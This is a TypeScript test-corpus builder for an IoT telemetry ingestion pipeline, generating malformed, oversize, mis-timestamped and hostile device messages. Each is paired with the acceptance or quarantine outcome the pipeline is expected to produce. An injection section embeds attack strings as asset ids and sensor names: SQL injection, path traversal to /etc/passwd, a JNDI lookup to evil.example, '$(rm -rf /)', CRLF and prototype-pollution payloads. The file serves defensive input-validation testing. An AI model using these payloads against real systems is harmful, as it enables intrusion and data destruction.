/**
 * Hostile device input corpus for the "bad input" reliability proof (docs/reliability.md).
 *
 * Each line of `corpus.jsonl` is one device message as `pdm ingest` reads it:
 * `{"topic", "payload", "id", "category", "expect"}`. `payload` is the raw text exactly as sent.
 * Bytes that are not text (invalid UTF-8, binary) cannot be a JSON string, so those lines carry
 * `payloadBase64` instead; the loader below decodes it to a `Uint8Array`, while `pdm ingest`, which
 * only reads text payloads, reports them as file errors. `expect` (the outcome the contract in
 * docs/cleaning.md promises for the case on its own line, in file order) is ignored by ingest.
 * A few lines are deliberately broken as file lines (not JSON, no topic…): they test the file loader.
 *
 * Run `npx tsx test/reliability/bad-input/corpus.ts` to rewrite the committed file; a test checks
 * that the committed file equals what this builder generates.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { ReasonCode } from '../../../lambdas/core/cleaning/reasons.ts';

/** Receipt time used when the corpus runs through `cleanMessage`/`processMessages` directly. */
export const RECEIVED_AT = Date.UTC(2026, 0, 15, 12, 0, 0);
const SECOND = 1000;
const MINUTE = 60 * SECOND;
const DAY = 24 * 60 * MINUTE;

/** The outcome of one message on its own line: accepted (≥ 1 clean sample or a valid event) or not, and the exact set of quarantine reasons. */
export interface Expect {
  readonly outcome: 'accepted' | 'quarantined';
  readonly reasons: readonly ReasonCode[];
}

export interface CorpusCase {
  readonly id: string;
  readonly category: string;
  readonly topic: string;
  /** Raw text as sent; absent when the message is bytes (`payloadBase64`). */
  readonly payload?: string;
  readonly payloadBase64?: string;
  readonly expect: Expect;
}

/** One line of the corpus file: a case, or a deliberately malformed file line. */
export type CorpusLine = { readonly kind: 'case'; readonly value: CorpusCase } | { readonly kind: 'broken'; readonly text: string };

// Registered assets of the default local fleet (createFleet({ assets: 12, seed: 1 })).
const PUMP = { site: 'site-a', id: 'pump-001' };
const PUMP4 = { site: 'site-a', id: 'pump-004' };
const PUMP7 = { site: 'site-a', id: 'pump-007' };
const PUMP10 = { site: 'site-a', id: 'pump-010' };
const MACHINE = { site: 'site-b', id: 'machine-002' };

type Asset = typeof PUMP;
const tel = (a: Asset): string => `pdm/${a.site}/${a.id}/telemetry`;
const mnt = (a: Asset): string => `pdm/${a.site}/${a.id}/maintenance`;

const ok = (...reasons: ReasonCode[]): Expect => ({ outcome: 'accepted', reasons });
const bad = (...reasons: ReasonCode[]): Expect => ({ outcome: 'quarantined', reasons });

/** Builds the corpus: deterministic (no clock, no randomness), so the committed file can be checked. */
export function buildCorpus(): CorpusLine[] {
  const lines: CorpusLine[] = [];
  const seqs = new Map<string, number>();
  // Each asset's seqs increase through the file so that only the cases meant to be duplicates or late are.
  const nextSeq = (a: Asset): number => {
    const s = (seqs.get(a.id) ?? 1000) + 1;
    seqs.set(a.id, s);
    return s;
  };
  const tsOf = (seq: number): number => RECEIVED_AT - 6 * 60 * MINUTE + seq * SECOND;
  // Values vary with seq: a constant value would (rightly) be quarantined as a flatline after 30 samples.
  const pumpReadings = (seq: number): Record<string, number> => ({
    temperature: 55 + (seq % 13) * 0.5,
    vibration: 2 + (seq % 7) * 0.1,
    pressure: 8 + (seq % 5) * 0.2,
    flow: 180 + (seq % 11),
    rpm: 2900 + (seq % 9),
    current: 70 + (seq % 3),
  });
  const machineReadings = (seq: number): Record<string, number> => ({
    volt: 170 + (seq % 13) * 0.5,
    rotate: 440 + (seq % 7),
    pressure: 100 + (seq % 5),
    vibration: 40 + (seq % 11) * 0.1,
  });
  const readingsFor = (a: Asset, seq: number) => (a === MACHINE ? machineReadings(seq) : pumpReadings(seq));
  const sample = (a: Asset, over: Record<string, unknown> = {}): Record<string, unknown> => {
    const seq = typeof over.seq === 'number' ? over.seq : nextSeq(a);
    return { ts: tsOf(seq), seq, readings: readingsFor(a, seq), ...over };
  };
  const batch = (a: Asset, samples: unknown[], extra: Record<string, unknown> = {}) =>
    JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: a.id, samples, ...extra });
  const one = (a: Asset, over: Record<string, unknown> = {}) => batch(a, [sample(a, over)]);
  const withReadings = (a: Asset, extra: Record<string, unknown>) => {
    const s = sample(a);
    return batch(a, [{ ...s, readings: { ...(s.readings as object), ...extra } }]);
  };
  const onlyReadings = (a: Asset, readings: unknown) => batch(a, [{ ...sample(a), readings }]);
  const maint = (a: Asset, body: Record<string, unknown>) =>
    JSON.stringify({ schema: 'pdm.maintenance.v1', assetId: a.id, ts: new Date(RECEIVED_AT - DAY).toISOString(), kind: 'inspection', ...body });

  let n = 0;
  const add = (category: string, topic: string, payload: string, expect: Expect) => {
    n += 1;
    lines.push({ kind: 'case', value: { id: `${category}-${String(n).padStart(3, '0')}`, category, topic, payload, expect } });
  };
  const addBytes = (category: string, topic: string, bytes: Uint8Array, expect: Expect) => {
    n += 1;
    const payloadBase64 = Buffer.from(bytes).toString('base64');
    lines.push({ kind: 'case', value: { id: `${category}-${String(n).padStart(3, '0')}`, category, topic, payloadBase64, expect } });
  };
  const broken = (text: string) => lines.push({ kind: 'broken', text });

  // --- valid messages mixed in: the pipeline must still accept good data around the bad.
  add('valid', tel(PUMP), one(PUMP), ok());
  add('valid', tel(PUMP), batch(PUMP, [sample(PUMP), sample(PUMP), sample(PUMP)]), ok());
  add('valid', tel(MACHINE), one(MACHINE), ok());
  add('valid', tel(MACHINE), batch(MACHINE, [sample(MACHINE), sample(MACHINE, { component: 'comp2' })]), ok());
  {
    const seq = nextSeq(PUMP);
    add('valid', tel(PUMP), JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: PUMP.id, ts: tsOf(seq), seq, readings: pumpReadings(seq) }), ok());
  }
  {
    const seq = nextSeq(PUMP);
    const iso = new Date(tsOf(seq)).toISOString();
    add('valid', tel(PUMP), batch(PUMP, [sample(PUMP, { seq, ts: iso })]), ok());
  }
  {
    // Same instant written with a +05:30 offset.
    const seq = nextSeq(PUMP);
    const local = new Date(tsOf(seq) + 330 * MINUTE).toISOString().replace('Z', '+05:30').replace('.000', '');
    add('valid', tel(PUMP), batch(PUMP, [sample(PUMP, { seq, ts: local })]), ok());
  }
  add('valid', tel(PUMP4), one(PUMP4), ok());
  add('valid', mnt(PUMP), maint(PUMP, {}), ok());
  add('valid', mnt(PUMP), maint(PUMP, { kind: 'repair', component: 'bearing' }), ok());
  add('valid', mnt(MACHINE), maint(MACHINE, { kind: 'replacement', component: 'comp4', note: 'swapped' }), ok());
  // Extremes that are still inside the contract.
  add('valid', tel(PUMP), withReadings(PUMP, { vibration: 0, temperature: -20, pressure: 40 }), ok());
  add('valid', tel(PUMP), withReadings(PUMP, { vibration: 5e-324 }), ok());
  add('valid', tel(PUMP), withReadings(PUMP, { vibration: -0 }), ok());
  add('valid', tel(PUMP), `  \n\t${one(PUMP)}\r\n  `, ok());
  add('valid', tel(PUMP), one(PUMP).replace('"readings"', '"readings"\u0020'), ok());
  add('valid', mnt(PUMP), maint(PUMP, { note: "<script>alert(1)</script>'; DROP TABLE twins;--" }), ok());
  add('valid', mnt(PUMP), maint(PUMP, { ts: new Date(RECEIVED_AT - 365 * DAY).toISOString() }), ok());

  // --- truncated and invalid JSON
  const full = batch(PUMP, [sample(PUMP), sample(PUMP)]);
  for (const cut of [1, 2, 10, 25, 40, 57, 80, 100, 130, full.length - 2, full.length - 1]) {
    add('invalid-json', tel(PUMP), full.slice(0, cut), bad('invalid_json'));
  }
  for (const text of [
    '',
    '   ',
    "{'schema':'pdm.telemetry.v1'}",
    '{"schema":"pdm.telemetry.v1","assetId":"pump-001","samples":[],}',
    '{"schema":"pdm.telemetry.v1",/* comment */"assetId":"pump-001"}',
    '{"a":1}{"b":2}',
    '{"schema":"pdm.telemetry.v1","assetId":"pump-001","samples":[{"ts":1,"seq":1,"readings":{"rpm":NaN}}]}',
    '{"schema":"pdm.telemetry.v1","assetId":"pump-001","samples":[{"ts":1,"seq":1,"readings":{"rpm":Infinity}}]}',
    '{"schema":"pdm.telemetry.v1","assetId":"pump-001","samples":[{"ts":1,"seq":1,"readings":{"rpm":0x10}}]}',
    '{"schema":"pdm.telemetry.v1","assetId":"pump-001","samples":[{"ts":1,"seq":01,"readings":{}}]}',
    `\uFEFF${one(PUMP)}`,
    '{"schema":"pdm.telemetry.v1","assetId":"pump-\u0001001"}',
    'undefined',
    '{"schema":"pdm.telemetry.v1"',
  ]) {
    add('invalid-json', tel(PUMP), text, bad('invalid_json'));
  }
  for (const text of ['null', '42', '"pdm.telemetry.v1"', '[]', 'true', `[${one(PUMP)}]`]) {
    add('not-an-object', tel(PUMP), text, bad('invalid_envelope'));
  }

  // --- wrong types
  const env = (body: Record<string, unknown>) => JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: PUMP.id, ...body });
  add('wrong-types', tel(PUMP), JSON.stringify({ schema: 1, assetId: PUMP.id, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), JSON.stringify({ schema: null, assetId: PUMP.id, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), JSON.stringify({ schema: ['pdm.telemetry.v1'], assetId: PUMP.id, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: 1, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: null, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), env({ samples: sample(PUMP) }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), env({ samples: 'lots' }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), env({ samples: null }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), env({}), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), env({ ts: tsOf(1), seq: 1 }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), env({ samples: [sample(PUMP)], extra: true }), bad('invalid_envelope'));
  add('wrong-types', tel(PUMP), one(PUMP, { seq: '5' }), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), one(PUMP, { seq: -1 }), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), one(PUMP, { seq: 1.5 }), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), one(PUMP, { seq: null }), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), onlyReadings(PUMP, [1, 2, 3]), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), onlyReadings(PUMP, null), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), onlyReadings(PUMP, 'temperature=60'), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), one(PUMP, { ts: true }), bad('invalid_timestamp'));
  add('wrong-types', tel(PUMP), one(PUMP, { ts: null }), bad('invalid_timestamp'));
  add('wrong-types', tel(PUMP), one(PUMP, { ts: { iso: '2026-01-15T00:00:00Z' } }), bad('invalid_timestamp'));
  add('wrong-types', tel(PUMP), batch(PUMP, [42]), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), batch(PUMP, [null]), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), batch(PUMP, [[sample(PUMP)]]), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), batch(PUMP, [{}]), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), batch(PUMP, [{ ...sample(PUMP), extra: 1 }]), bad('invalid_sample'));
  add('wrong-types', tel(PUMP), one(PUMP, { component: 7 }), bad('invalid_sample'));
  for (const value of [true, null, { v: 1 }, [1], '', '60']) {
    add('wrong-types', tel(PUMP), withReadings(PUMP, { temperature: value }), ok('non_numeric'));
  }
  add('wrong-types', tel(PUMP), onlyReadings(PUMP, { temperature: 'hot', vibration: false }), bad('non_numeric', 'no_valid_readings'));
  add('wrong-types', tel(PUMP), batch(PUMP, [sample(PUMP), 'sample', sample(PUMP)]), ok('invalid_sample'));

  // --- NaN and Infinity as strings, and numbers beyond what a double or a seq can hold
  for (const value of ['NaN', 'Infinity', '-Infinity', '1e400', '+5', '0x10', ' 5 ']) {
    add('nan-infinity', tel(PUMP), withReadings(PUMP, { vibration: value }), ok('non_numeric'));
  }
  add('nan-infinity', tel(PUMP), onlyReadings(PUMP, { vibration: 'NaN' }), bad('non_numeric', 'no_valid_readings'));
  const rawReading = (literal: string) => withReadings(PUMP, { vibration: 0 }).replace('"vibration":0', `"vibration":${literal}`);
  add('huge-numbers', tel(PUMP), rawReading('1e400'), ok('non_finite'));
  add('huge-numbers', tel(PUMP), rawReading('-1e400'), ok('non_finite'));
  add('huge-numbers', tel(PUMP), rawReading('1' + '0'.repeat(400)), ok('non_finite'));
  add('huge-numbers', tel(PUMP), rawReading('1e308'), ok('out_of_range'));
  add('huge-numbers', tel(PUMP), rawReading('9007199254740993'), ok('out_of_range'));
  add('huge-numbers', tel(PUMP), rawReading('1e-400'), ok());
  add('huge-numbers', tel(PUMP), rawReading('-0.0'), ok());
  add('huge-numbers', tel(PUMP), rawReading('12.50000000000000000000000000001'), ok());
  {
    const s = sample(PUMP);
    add('huge-numbers', tel(PUMP), batch(PUMP, [s]).replace(`"seq":${s.seq as number}`, '"seq":9007199254740993'), bad('invalid_sample'));
    add('huge-numbers', tel(PUMP), batch(PUMP, [s]).replace(`"seq":${s.seq as number}`, '"seq":1e300'), bad('invalid_sample'));
    add('huge-numbers', tel(PUMP), batch(PUMP, [s]).replace(`"seq":${s.seq as number}`, '"seq":1e400'), bad('invalid_sample'));
    add('huge-numbers', tel(PUMP), batch(PUMP, [s]).replace(`"ts":${s.ts as number}`, '"ts":1e400'), bad('invalid_timestamp'));
    add('huge-numbers', tel(PUMP), batch(PUMP, [s]).replace(`"ts":${s.ts as number}`, `"ts":${String(s.ts)}.5`), bad('invalid_timestamp'));
  }
  // The largest safe seq is valid; it goes to its own asset so it does not make every later pump seq late.
  add('huge-numbers', tel(PUMP10), one(PUMP10, { seq: Number.MAX_SAFE_INTEGER, ts: tsOf(5000) }), ok());

  // --- deep nesting
  const arrays = (depth: number, inner = '1') => '['.repeat(depth) + inner + ']'.repeat(depth);
  const objects = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
  add('deep-nesting', tel(PUMP), arrays(10_000), bad('invalid_envelope'));
  add('deep-nesting', tel(PUMP), arrays(60_000), bad('invalid_envelope'));
  add('deep-nesting', tel(PUMP), objects(10_000), bad('invalid_envelope'));
  add('deep-nesting', tel(PUMP), '['.repeat(20_000), bad('invalid_json'));
  add('deep-nesting', tel(PUMP), env({ samples: [sample(PUMP)] }).replace(/}$/, `,"x":${arrays(10_000)}}`), bad('invalid_envelope'));
  add('deep-nesting', tel(PUMP), batch(PUMP, [sample(PUMP)]).replace('"samples":[', `"samples":[${arrays(10_000)},`), ok('invalid_sample'));
  add('deep-nesting', tel(PUMP), rawReading(arrays(10_000)), ok('non_numeric'));
  add('deep-nesting', tel(PUMP), rawReading(arrays(50_000)), ok('non_numeric'));
  add('deep-nesting', tel(PUMP), rawReading(objects(12_000)), ok('non_numeric'));
  {
    const s = sample(PUMP);
    const text = batch(PUMP, [s]);
    add('deep-nesting', tel(PUMP), text.replace(`"ts":${s.ts as number}`, `"ts":${arrays(10_000)}`), bad('invalid_timestamp'));
    const s2 = sample(PUMP);
    add('deep-nesting', tel(PUMP), batch(PUMP, [s2]).replace(`"seq":${s2.seq as number}`, `"seq":${objects(10_000)}`), bad('invalid_sample'));
    const s3 = sample(PUMP);
    add('deep-nesting', tel(PUMP), batch(PUMP, [s3]).replace('"readings":{', `"component":${arrays(10_000)},"readings":{`), bad('invalid_sample'));
  }
  add('deep-nesting', mnt(PUMP), maint(PUMP, {}).replace('"kind":"inspection"', `"kind":${arrays(10_000)}`), bad('invalid_envelope'));

  // --- oversize payloads (128 KiB = 131072 bytes is the IoT Core limit, inclusive)
  const LIMIT = 128 * 1024;
  const padTo = (text: string, bytes: number) => text + ' '.repeat(bytes - Buffer.byteLength(text));
  add('oversize', tel(PUMP), padTo(one(PUMP), LIMIT), ok());
  add('oversize', tel(PUMP), padTo(one(PUMP), LIMIT + 1), bad('payload_too_large'));
  add('oversize', tel(PUMP), padTo(one(PUMP), 300 * 1024), bad('payload_too_large'));
  add('oversize', tel(PUMP), env({ samples: [sample(PUMP)], note: 'x'.repeat(LIMIT) }), bad('payload_too_large'));
  add('oversize', tel(PUMP), withReadings(PUMP, { ['€'.repeat(44_000)]: 1 }), bad('payload_too_large'));
  add('oversize', tel(PUMP), `${'\u{1F4A5}'.repeat(33_000)}`, bad('payload_too_large'));
  add('oversize', tel(PUMP), `${'x'.repeat(LIMIT)}\uD800`, bad('payload_too_large'));
  add('oversize', tel(PUMP), arrays(70_000), bad('payload_too_large'));
  {
    const samples = Array.from({ length: 1001 }, () => sample(PUMP4));
    add('over-limits', tel(PUMP4), batch(PUMP4, samples), bad('invalid_envelope'));
    add('over-limits', tel(PUMP4), batch(PUMP4, Array.from({ length: 1000 }, () => sample(PUMP4))), ok());
  }
  {
    const many: Record<string, number> = {};
    for (let i = 0; i < 65; i++) many[`s${i}`] = i;
    add('over-limits', tel(PUMP), onlyReadings(PUMP, many), bad('invalid_sample'));
    const s = sample(PUMP);
    const sixtyFour: Record<string, number> = { ...(s.readings as Record<string, number>) };
    for (let i = 0; Object.keys(sixtyFour).length < 64; i++) sixtyFour[`extra${i}`] = i;
    add('over-limits', tel(PUMP), batch(PUMP, [{ ...s, readings: sixtyFour }]), ok('unknown_sensor'));
    const huge: Record<string, number> = {};
    for (let i = 0; i < 5000; i++) huge[`s${i}`] = i;
    add('over-limits', tel(PUMP), onlyReadings(PUMP, huge), bad('invalid_sample'));
  }

  // --- unicode and control characters in ids, sensor names and values
  for (const id of ['pump-001\u0000', 'pump\u200F-001', '\u202Epump-001', 'рump-001', 'pump-001\u200B', 'pump-００1', '']) {
    add('unicode', tel(PUMP), JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: id, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  }
  for (const name of ['temp\u0000erature', 'temperature\u200B', '\u202Etemperature', 'tempé', '\u{1F525}', '\uD800', '\uDFFF', '__proto__', 'constructor', 'toString', 'TEMPERATURE', '']) {
    add('unicode', tel(PUMP), withReadings(PUMP, { [name]: 1 }), ok('unknown_sensor'));
  }
  add('unicode', tel(PUMP), onlyReadings(PUMP, { '\uD83D': 1, '\u0000': 2 }), bad('unknown_sensor', 'no_valid_readings'));
  add('unicode', tel(PUMP), withReadings(PUMP, { temperature: '6\u00000' }), ok('non_numeric'));
  add('unicode', tel(PUMP), withReadings(PUMP, { temperature: '\u0666\u0660' }), ok('non_numeric'));
  add('unicode', tel(PUMP), one(PUMP, { component: 'bearing\u0000' }), bad('invalid_sample'));
  add('unicode', tel(PUMP), one(PUMP, { component: 'b\u00E9aring' }), bad('invalid_sample'));
  // Raw (unescaped) lone surrogates: the text cannot be encoded as UTF-8 at all.
  add('unicode', tel(PUMP), one(PUMP).replace('"readings"', '"readings\uD800"'), bad('invalid_encoding'));
  add('unicode', tel(PUMP), `\uDC00${one(PUMP)}`, bad('invalid_encoding'));
  add('unicode', tel(PUMP), '\uD800', bad('invalid_encoding'));
  // Escaped lone surrogates are valid text: JSON.parse builds the string, the checks reject its use.
  add('unicode', tel(PUMP), JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: 'pump-001\\ud800', samples: [] }).replace('\\\\', '\\'), bad('invalid_envelope'));
  add('unicode', tel(PUMP), one(PUMP).replace('"ts":', '"t\\u0073":'), ok());
  add('unicode', tel(PUMP), one(PUMP).replace('"ts":', '"t\\u0000s":'), bad('invalid_sample'));
  // Bytes, not text.
  const utf8 = (s: string) => new TextEncoder().encode(s);
  const cat = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((p) => [...p]));
  addBytes('binary', tel(PUMP), Uint8Array.from([0xff, 0xfe, 0xfd, 0x00, 0x80]), bad('invalid_encoding'));
  addBytes('binary', tel(PUMP), cat(utf8(one(PUMP).slice(0, -1)), Uint8Array.from([0xc0, 0xaf]), utf8('}')), bad('invalid_encoding'));
  addBytes('binary', tel(PUMP), Uint8Array.from([0xed, 0xa0, 0x80]), bad('invalid_encoding'));
  addBytes('binary', tel(PUMP), cat(Uint8Array.from([0xff, 0xfe]), new Uint8Array(Buffer.from(one(PUMP), 'utf16le'))), bad('invalid_encoding'));
  addBytes('binary', tel(PUMP), Uint8Array.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]), bad('invalid_encoding'));
  addBytes('binary', tel(PUMP), Uint8Array.from({ length: 256 }, (_, i) => (i * 151 + 7) % 256), bad('invalid_encoding'));
  addBytes('binary', tel(PUMP), new Uint8Array(Buffer.from(one(PUMP), 'utf16le')), bad('invalid_json'));
  addBytes('binary', tel(PUMP), utf8(one(PUMP)), ok());

  // --- topic / asset mismatches
  add('topic-mismatch', tel(PUMP), one(PUMP4), bad('topic_asset_mismatch'));
  add('topic-mismatch', tel(PUMP), JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: 'PUMP-001', samples: [sample(PUMP)] }), bad('topic_asset_mismatch'));
  add('topic-mismatch', 'pdm/site-b/pump-001/telemetry', one(PUMP), bad('unknown_asset'));
  add('topic-mismatch', 'pdm/site-a/pump-999/telemetry', one({ site: 'site-a', id: 'pump-999' }), bad('unknown_asset'));
  add('topic-mismatch', 'pdm/site-a/PUMP-001/telemetry', one({ site: 'site-a', id: 'PUMP-001' }), bad('unknown_asset'));
  add('topic-mismatch', 'pdm/site-a/pump-999/telemetry', batch({ site: 'site-a', id: 'pump-999' }, []), bad('unknown_asset'));
  add('topic-mismatch', tel(PUMP), JSON.stringify({ schema: 'pdm.maintenance.v1', assetId: PUMP.id, ts: tsOf(1), kind: 'repair' }), bad('unsupported_schema'));
  add('topic-mismatch', mnt(PUMP), one(PUMP), bad('unsupported_schema'));
  add('topic-mismatch', mnt(PUMP), maint(PUMP4, {}), bad('topic_asset_mismatch'));
  for (const topic of ['pdm/site-a/pump-001/telemetryX', 'pdm/site-a/pump-001/telemetry/', 'PDM/site-a/pump-001/telemetry', 'pdm//pump-001/telemetry', 'pdm/site-a/pump-001', '/pdm/site-a/pump-001/telemetry', 'pdm/site-a/pump-001/alarms', 'pdm/site-a/+/telemetry', 'pdm/site-a/#', 'pdm/site a/pump-001/telemetry']) {
    add('topic-mismatch', topic, one(PUMP), bad('invalid_topic'));
  }

  // --- injection-looking asset ids, in the payload and in the topic
  const INJECTIONS = [
    "'; DROP TABLE assets;--",
    "pump-001' OR '1'='1",
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '${jndi:ldap://evil.example/a}',
    '<script>alert(1)</script>',
    '$(rm -rf /)',
    '{{7*7}}',
    '%00pump-001',
    'pump-001\r\nX-Injected: 1',
    '*',
    'a'.repeat(129),
  ];
  for (const id of INJECTIONS) {
    add('injection', tel(PUMP), JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: id, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  }
  for (const id of INJECTIONS.slice(0, 8)) {
    add('injection', `pdm/site-a/${id}/telemetry`, JSON.stringify({ schema: 'pdm.telemetry.v1', assetId: id, samples: [sample(PUMP)] }), bad('invalid_topic'));
  }
  for (const name of INJECTIONS.slice(0, 6)) {
    add('injection', tel(PUMP), withReadings(PUMP, { [name]: 1 }), ok('unknown_sensor'));
  }
  add('injection', tel(PUMP), one(PUMP, { component: "bearing'; DROP TABLE twins;--" }), bad('invalid_sample'));
  add('injection', tel(PUMP), env({ samples: [sample(PUMP)] }).replace('"samples"', '"__proto__":{"admin":true},"samples"'), bad('invalid_envelope'));
  add('injection', tel(PUMP), batch(PUMP, [sample(PUMP)]).replace('"readings":{', '"readings":{"__proto__":{"polluted":1},'), ok('unknown_sensor'));
  add('injection', mnt(PUMP), maint(PUMP, { component: '../../etc' }), bad('invalid_envelope'));
  add('injection', mnt(PUMP), maint(PUMP, { note: 'x'.repeat(1025) }), bad('invalid_envelope'));

  // --- timestamps
  add('timestamps', tel(PUMP), one(PUMP, { ts: '1970-01-01T00:00:00Z' }), bad('stale_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: 0 }), bad('invalid_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: -1 }), bad('invalid_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: Math.floor(RECEIVED_AT / 1000) }), bad('invalid_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: RECEIVED_AT * 1000 }), bad('invalid_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: 4_102_444_800_001 }), bad('invalid_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: '9999-12-31T23:59:59Z' }), bad('future_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: '2099-01-01T00:00:00Z' }), bad('future_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: RECEIVED_AT + 6 * MINUTE }), bad('future_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: RECEIVED_AT + 4 * MINUTE }), ok());
  add('timestamps', tel(PUMP), one(PUMP, { ts: RECEIVED_AT - 8 * DAY }), bad('stale_timestamp'));
  add('timestamps', tel(PUMP), one(PUMP, { ts: RECEIVED_AT - 6 * DAY }), ok());
  add('timestamps', tel(PUMP), one(PUMP, { ts: '2000-01-01T00:00:00Z' }), bad('stale_timestamp'));
  for (const ts of ['2026-01-15T10:00Z', '2026-01-15T10:00:00', '2026-01-15', 'yesterday', '', '2026-01-15T10:00:00+25:00', '2026-13-01T00:00:00Z', '2026-02-30T00:00:00Z', '2026-01-15 10:00:00Z', '+002026-01-15T10:00:00Z']) {
    add('timestamps', tel(PUMP), one(PUMP, { ts }), bad('invalid_timestamp'));
  }
  add('timestamps', tel(PUMP), batch(PUMP, [sample(PUMP, { ts: RECEIVED_AT + DAY }), sample(PUMP)]), ok('future_timestamp'));
  add('timestamps', mnt(PUMP), maint(PUMP, { ts: '2099-01-01T00:00:00Z' }), bad('future_timestamp'));
  add('timestamps', mnt(PUMP), maint(PUMP, { ts: Math.floor(RECEIVED_AT / 1000) }), bad('invalid_envelope'));
  add('timestamps', mnt(PUMP), maint(PUMP, { ts: 'last tuesday' }), bad('invalid_envelope'));

  // --- duplicated and reordered seq
  {
    const a = sample(PUMP);
    add('seq', tel(PUMP), batch(PUMP, [a, a]), ok('duplicate_seq'));
    const b = sample(PUMP);
    const c = sample(PUMP);
    const d = sample(PUMP);
    add('seq', tel(PUMP), batch(PUMP, [d, b, c]), ok());
    // The same message again (a device retry): stage 2 has seen these seqs.
    add('seq', tel(PUMP), batch(PUMP, [d, b, c]), bad('duplicate_seq'));
    add('seq', tel(PUMP), batch(PUMP, [a]), bad('duplicate_seq'));
    const e = sample(PUMP);
    add('seq', tel(PUMP), batch(PUMP, [e, { ...e, readings: pumpReadings(1) }, sample(PUMP)]), ok('duplicate_seq'));
    // Far below the asset's 256-seq window: too late to place.
    add('seq', tel(PUMP), one(PUMP, { seq: 5 }), bad('late_sample'));
    add('seq', tel(PUMP), one(PUMP, { seq: 0 }), bad('late_sample'));
    // Skip ahead, then fill in just below: inside the window, accepted out of order.
    const top = (seqs.get(PUMP.id) ?? 0) + 20;
    seqs.set(PUMP.id, top);
    add('seq', tel(PUMP), one(PUMP, { seq: top }), ok());
    add('seq', tel(PUMP), one(PUMP, { seq: top - 10 }), ok());
    add('seq', tel(PUMP), one(PUMP, { seq: top - 10 }), bad('duplicate_seq'));
    // One message far ahead (2^53−1) must not blind the asset: it is seq_jump, and the next
    // normal seq is accepted, not late.
    add('seq', tel(PUMP), one(PUMP, { seq: Number.MAX_SAFE_INTEGER, ts: tsOf(top) }), bad('seq_jump'));
    add('seq', tel(PUMP), one(PUMP), ok());
  }

  // --- unknown sensors, components, empty batches
  add('unknown-sensor', tel(PUMP), withReadings(PUMP, { T24: 640 }), ok('unknown_sensor'));
  add('unknown-sensor', tel(PUMP), onlyReadings(PUMP, { T24: 640, volt: 170 }), bad('unknown_sensor', 'no_valid_readings'));
  add('unknown-sensor', tel(PUMP), onlyReadings(PUMP, {}), bad('no_valid_readings'));
  add('unknown-sensor', tel(PUMP), withReadings(PUMP, { vibration: 812 }), ok('out_of_range'));
  add('unknown-sensor', tel(PUMP), withReadings(PUMP, { vibration: -0.0001 }), ok('out_of_range'));
  add('unknown-sensor', tel(PUMP), onlyReadings(PUMP, { vibration: 812, rpm: -1 }), bad('out_of_range', 'no_valid_readings'));
  add('unknown-sensor', tel(PUMP), one(PUMP, { component: 'hpc' }), bad('unknown_component'));
  add('unknown-sensor', mnt(PUMP), maint(PUMP, { component: 'wing' }), bad('unknown_component'));
  add('empty-batch', tel(PUMP), batch(PUMP, []), bad('empty_batch'));
  add('empty-batch', tel(MACHINE), batch(MACHINE, []), bad('empty_batch'));
  add('empty-batch', tel(PUMP), `{"samples":[],"assetId":"pump-001","schema":"pdm.telemetry.v1"}`, bad('empty_batch'));

  // --- schema versions
  for (const schema of ['pdm.telemetry.v2', 'pdm.telemetry.v0', 'PDM.TELEMETRY.V1', 'pdm.telemetry.v1 ', '', 'pdm.telemetry']) {
    add('schema', tel(PUMP), JSON.stringify({ schema, assetId: PUMP.id, samples: [sample(PUMP)] }), bad('unsupported_schema'));
  }
  add('schema', tel(PUMP), JSON.stringify({ assetId: PUMP.id, samples: [sample(PUMP)] }), bad('invalid_envelope'));
  add('schema', mnt(PUMP), maint(PUMP, { schema: 'pdm.maintenance.v2' }), bad('unsupported_schema'));

  // --- maintenance messages with bad kinds
  for (const kind of ['explosion', '', 'INSPECTION', 'repair ', 5, null, ['repair'], { kind: 'repair' }]) {
